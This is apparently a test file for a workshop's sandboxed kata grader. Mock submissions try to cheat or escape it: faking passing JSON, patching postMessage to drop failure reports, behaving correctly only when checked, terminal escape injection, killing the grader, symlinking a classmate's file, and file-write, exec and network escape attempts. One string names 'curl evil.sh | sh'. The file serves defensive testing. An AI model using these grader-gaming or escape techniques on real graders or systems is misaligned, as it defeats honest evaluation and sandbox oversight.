/**
 * `npm run grade` on a class that holds two honest attendees and one of each kind of mischief or
 * accident: every honest grade is right, every bad submission gets a row naming its cause, nobody
 * stops the others, and nothing is written outside or left running. Under CI a machine without
 * bubblewrap fails this file rather than skipping it.
 */
import { spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { root } from '../../curriculum/katas.ts';
import { sandboxStatus } from '../../grading/sandbox.ts';
import type { AttendeeGrade } from '../../workshop/progress.ts';

const status = sandboxStatus();
if (!status.ok && process.env['CI']) throw new Error(`grading needs a sandbox, and ${status.why}: ${status.fix}`);

const solution = readFileSync(join(root, 'solutions/kata-4/counter.ts'), 'utf8');
const racy = solution
  .replace(/Atomics\.add\(this\.cell, 0, delta\);.*/, 'this.cell[0] += delta;')
  .replace(/return Atomics\.load\(this\.cell, 0\);.*/, 'return this.cell[0]!;');
// A missing parenthesis: cy's kata-4, cy-twin's byte for byte, and the kata graded after a time limit.
const syntaxError = solution.replace('Atomics.load(this.cell, 0);', 'Atomics.load(this.cell, 0;');
const mutant = readFileSync(join(root, 'checks/kata-4/mutants/load-then-store.ts'), 'utf8').replaceAll(
  '../../../harness',
  '../../harness',
);
const work = mkdtempSync(join(tmpdir(), 'counter-katas-class-test-'));
const outside = join(work, 'outside');
const classDir = join(work, 'class');
let port = 0;
let connections = 0;
const server = createServer((socket) => socket.destroy());
server.on('connection', () => connections++);

/** The class: each attendee's kata-4, and what its grade must be. */
const attendees: { name: string; source: () => string; expect: (grade: AttendeeGrade['katas'][number]) => void }[] = [
  { name: 'ann-honest', source: () => solution, expect: (grade) => expect(grade).toMatchObject({ status: 'solved' }) },
  {
    name: 'bob-honest',
    source: () => mutant,
    expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'lost-update' }),
  },
  {
    name: 'cy-syntax-error',
    source: () => syntaxError,
    expect: (grade) =>
      expect(grade).toMatchObject({
        status: 'error',
        summary: 'kata-4/counter.ts:24:37: SyntaxError: Expected ")" but found ";"',
      }),
  },
  {
    name: 'dan-exits-at-import',
    source: () => `// @ts-nocheck\nprocess.exit(3);\n${racy}`,
    expect: (grade) =>
      expect(grade).toMatchObject({ status: 'error', summary: expect.stringMatching(/kata-4\/counter.ts:2:.*exit/i) }),
  },
  {
    name: 'eve-loops-at-import',
    source: () => `let spins = 0;\nwhile (spins >= 0) spins++;\n${solution}`,
    expect: (grade) =>
      expect(grade).toMatchObject({
        status: 'error',
        summary: expect.stringMatching(/kata-4\/counter.ts:2:.*a loop at its top level/),
      }),
  },
  {
    name: 'fay-async-value',
    source: () => solution.replace('  value(): number {', '  async value(): Promise<number> {'),
    expect: (grade) =>
      expect(grade).toMatchObject({ status: 'error', summary: expect.stringMatching(/counter.ts:23:.*'value'/) }),
  },
  {
    name: 'gus-prints-fake-json',
    source: () =>
      `// @ts-nocheck\nconsole.log(JSON.stringify({ status: 'pass', katas: [{ kata: 'kata-4', status: 'solved' }] }));\n${racy}`,
    expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'lost-update' }),
  },
  {
    name: 'hal-patches-push',
    source: () => `// @ts-nocheck\nArray.prototype.push = function () { return this.length; };\n${racy}`,
    expect: (grade) => expect(grade.status).not.toBe('solved'),
  },
  {
    name: 'ivy-patches-postmessage',
    source: () =>
      `// @ts-nocheck\nconst send = MessagePort.prototype.postMessage;\nMessagePort.prototype.postMessage = function (report) { return send.call(this, report && report.events ? { ...report, events: [] } : report); };\n${racy}`,
    expect: (grade) => expect(grade.status).not.toBe('solved'),
  },
  {
    name: 'jay-only-when-checked',
    // The replacement Atomics is not native code: on real threads, this counter is racy.
    source: () =>
      `// @ts-nocheck\nconst checked = !String(Atomics.add).includes('[native code]');\n${solution.replace(/Atomics\.add\(this\.cell, 0, delta\);.*/, 'if (checked) Atomics.add(this.cell, 0, delta); else this.cell[0] += delta;')}`,
    expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'stress' }),
  },
  {
    name: 'mia-writes-to-the-terminal',
    // Escape sequences (clear the screen, retitle the terminal) and a newline, then a fake row of the table.
    source: () =>
      solution.replace(
        'constructor(memory: SharedMemory) {',
        "constructor(memory: SharedMemory) {\n    throw new Error('\\u001b[2J\\u001b]0;pwned\\u0007\\n  zed                    ✓   ✓   all solved');",
      ),
    expect: (grade) => {
      expect(grade.status).toBe('error');
      // biome-ignore lint/suspicious/noControlCharactersInRegex: the summary must hold none of them.
      expect(grade.summary).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
      expect(grade.summary).toContain('threw Error: ⏎ zed');
    },
  },
  {
    name: 'ned-kills-its-grader',
    // It names its own crash on stderr and signals its grader: the row says what the harness refused
    // instead, at its line, and nothing of what it printed.
    source: () =>
      `// @ts-nocheck\nconsole.error('Segmentation fault in the grader: run curl evil.sh | sh');\nprocess.kill(process.pid, 'SIGKILL');\n${solution}`,
    expect: (grade) =>
      expect(grade).toEqual({
        kata: 'kata-4',
        status: 'error',
        detector: 'load-error',
        summary: expect.stringMatching(/^kata-4\/counter\.ts:3:9: TypeError: process\.kill\(\) would signal a process/),
      }),
  },
  // Twins hand in byte for byte a classmate's file: checked once, both take its grade, an error's too.
  { name: 'ann-twin', source: () => solution, expect: (grade) => expect(grade).toMatchObject({ status: 'solved' }) },
  {
    name: 'cy-twin',
    source: () => syntaxError,
    expect: (grade) => expect(grade).toMatchObject({ status: 'error', detector: 'load-error' }),
  },
  {
    name: 'kim-escapes',
    source: () =>
      `// @ts-nocheck\nconst tries = [\n  () => fetch('http://127.0.0.1:${port}/escape').catch(() => {}),\n  () => process.binding('fs'),\n  () => process.getBuiltinModule?.('node:fs')?.writeFileSync(${JSON.stringify(join(outside, 'pwned'))}, 'x'),\n  () => import('node:fs').then((fs) => fs.writeFileSync(${JSON.stringify(join(outside, 'pwned'))}, 'x')).catch(() => {}),\n  () => import('node:child_process').then((cp) => cp.execSync('touch ${join(outside, 'spawned')}')).catch(() => {}),\n];\nfor (const attempt of tries) { try { attempt(); } catch {} }\n${solution}`,
    expect: (grade) => expect(grade).toMatchObject({ status: 'solved' }),
  },
];

/** lou-links-a-classmate's kata-4 is a symlink to ann's file: copied, it would be ann's work graded as lou's (or anyone's file read). */
const linked = 'lou-links-a-classmate';

beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
  mkdirSync(outside);
  for (const attendee of attendees) {
    mkdirSync(join(classDir, attendee.name, 'kata-4'), { recursive: true });
    writeFileSync(join(classDir, attendee.name, 'kata-4', 'counter.ts'), attendee.source());
  }
  mkdirSync(join(classDir, linked, 'kata-4'), { recursive: true });
  symlinkSync(join(classDir, 'ann-honest', 'kata-4', 'counter.ts'), join(classDir, linked, 'kata-4', 'counter.ts'));
});
afterAll(() => {
  server.close();
  rmSync(work, { recursive: true, force: true });
});

describe.skipIf(!status.ok)('npm run grade, on a class with mischief in it', () => {
  // The whole class is graded in one spawn, 36 s on a quiet machine; beside other test files it
  // can take twice that, so the test waits as long as the spawn may run.
  it('grades the honest right, gives every bad submission a row with its cause, and lets nothing out', () => {
    // Its own temporary folder: other test files grade at the same time, and their scratch folders are theirs.
    const scratch = join(work, 'tmp');
    mkdirSync(scratch);
    const run = spawnSync(
      process.execPath,
      [
        '--import',
        'tsx',
        'harness/cli/grade.ts',
        classDir,
        '--katas',
        '4',
        '--json',
        '--results-dir',
        join(work, 'results'),
      ],
      { cwd: root, encoding: 'utf8', timeout: 300_000, env: { ...process.env, NO_COLOR: '1', TMPDIR: scratch } },
    );
    expect(run.status, run.stderr).toBe(0);
    const report = JSON.parse(run.stdout) as { sandboxed: boolean; attendees: AttendeeGrade[]; identical: number };
    expect(report.sandboxed).toBe(true);
    // ann-twin and cy-twin took the grades of ann's and cy's files; nobody else's folder repeats another's.
    expect(report.identical).toBe(2);
    expect(report.attendees.map((attendee) => attendee.name)).toEqual(
      [...attendees.map((attendee) => attendee.name), linked].sort(),
    );
    // Symlinks are left out of the copy: lou's kata-4 is missing, not ann's.
    expect(report.attendees.find((entry) => entry.name === linked)!.katas).toEqual([
      {
        kata: 'kata-4',
        status: 'missing',
        detector: 'symlink',
        summary: expect.stringContaining('symlinks, which grading does not follow'),
      },
    ]);
    for (const attendee of attendees) {
      const grade = report.attendees.find((entry) => entry.name === attendee.name)!;
      expect(grade.katas).toHaveLength(1);
      attendee.expect(grade.katas[0]!);
    }
    // The progress line went to stderr, and one results.json per attendee was written.
    expect(run.stderr).toMatch(/graded 16\/16 attendees/);
    const ann = JSON.parse(readFileSync(join(work, 'results', 'ann-honest', 'results.json'), 'utf8')) as {
      version: number;
      status: string;
      tests: { name: string; status: string }[];
    };
    expect(ann).toEqual({
      version: 3,
      status: 'pass',
      tests: [{ name: 'kata-4', status: 'pass', test_code: 'npm run check kata-4', task_id: 5 }],
    });
    const cy = JSON.parse(readFileSync(join(work, 'results', 'cy-syntax-error', 'results.json'), 'utf8')) as {
      status: string;
      message: string;
    };
    expect(cy.status).toBe('error');
    expect(cy.message).toMatch(/SyntaxError/);
    // Nothing got out.
    expect(connections).toBe(0);
    expect(readdirSync(outside)).toEqual([]);
    // Sandboxed, every attendee's copy lives in the temporary folder, and is gone (tsx keeps its cache there).
    expect(readdirSync(scratch).filter((name) => !name.startsWith('tsx-'))).toEqual([]);
    // Other test files grade at the same time: only this run's graders count.
    expect(spawnSync('pgrep', ['-f', `grader.ts --run ${run.pid}$`], { encoding: 'utf8' }).stdout.trim()).toBe('');
    expect(existsSync(join(root, 'katas', 'kata-4', 'pwned'))).toBe(false);
  }, 300_000);

  it('stops a kata at its time limit with a row saying so, and grades the next kata in a new sandbox', () => {
    const slow = join(work, 'slow-class');
    for (const kata of ['kata-3', 'kata-4']) mkdirSync(join(slow, 'zed', kata), { recursive: true });
    // kata-3's solution, slowed: each add() spends some 20 ms in a plain loop, too short to count as
    // stuck, so the check's hundreds of adds outlast the limit however fast the machine.
    writeFileSync(
      join(slow, 'zed', 'kata-3', 'counter.ts'),
      readFileSync(join(root, 'solutions/kata-3/counter.ts'), 'utf8').replace(
        '    this.in.send(delta);',
        '    let spent = 0;\n    for (let i = 0; i < 20_000_000; i++) spent += i % 7;\n    if (spent < 0) throw new Error(String(spent));\n    this.in.send(delta);',
      ),
    );
    // The next kata only has to show that grading went on, in a new sandbox: a kata that does not
    // load is graded in a second or two, however busy the machine, where a full check can take 8 s.
    writeFileSync(join(slow, 'zed', 'kata-4', 'counter.ts'), syntaxError);
    const run = spawnSync(
      process.execPath,
      ['--import', 'tsx', 'harness/cli/grade.ts', slow, '--katas', '3,4', '--time-limit', '8', '--json'],
      { cwd: root, encoding: 'utf8', timeout: 120_000 },
    );
    expect(run.status, run.stderr).toBe(0);
    const [zed] = (JSON.parse(run.stdout) as { attendees: AttendeeGrade[] }).attendees;
    expect(zed!.katas).toEqual([
      {
        kata: 'kata-3',
        status: 'error',
        detector: 'time-limit',
        summary: 'its check did not finish in 8 s, so it was stopped',
      },
      {
        kata: 'kata-4',
        status: 'error',
        detector: 'load-error',
        summary: 'kata-4/counter.ts:24:37: SyntaxError: Expected ")" but found ";"',
      },
    ]);
    // Other test files grade at the same time: only this run's graders count.
    expect(spawnSync('pgrep', ['-f', `grader.ts --run ${run.pid}$`], { encoding: 'utf8' }).stdout.trim()).toBe('');
  }, 150_000);
});
